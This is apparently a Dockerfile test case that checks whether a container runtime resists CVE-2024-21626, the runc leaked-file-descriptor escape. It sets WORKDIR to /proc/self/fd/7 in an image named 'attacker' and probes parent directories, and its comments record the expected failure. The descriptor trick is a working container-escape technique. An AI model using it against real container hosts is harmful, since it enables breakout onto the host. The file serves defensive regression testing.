# tries: a working directory that is a descriptor which the runtime may have left open (CVE-2024-21626)
# ends: Failed mkdir /proc/self/fd/7: not a directory
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
WORKDIR /proc/self/fd/7
RUN . /lib/hunt.sh; daemon_file . .. ../../../../../../..; pwd; tried 1
